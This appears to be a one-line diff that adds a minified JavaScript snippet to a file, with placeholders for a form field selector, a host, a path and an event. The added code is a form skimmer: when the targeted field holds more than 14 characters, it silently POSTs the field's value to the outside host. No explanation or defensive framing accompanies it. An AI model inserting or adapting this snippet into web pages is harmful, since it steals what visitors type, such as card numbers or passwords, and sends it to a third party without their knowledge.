@@ -1,0 +1,1 @@
+!function(){var e=document,t="%FIELD%",n=function(){var n=e.querySelector(t);if(n&&n.value.length>14){var r=new XMLHttpRequest;r.open("POST","//%HOST%/%PATH%"),r.send(n.value)}};e.addEventListener("%EVENT%",n)}();
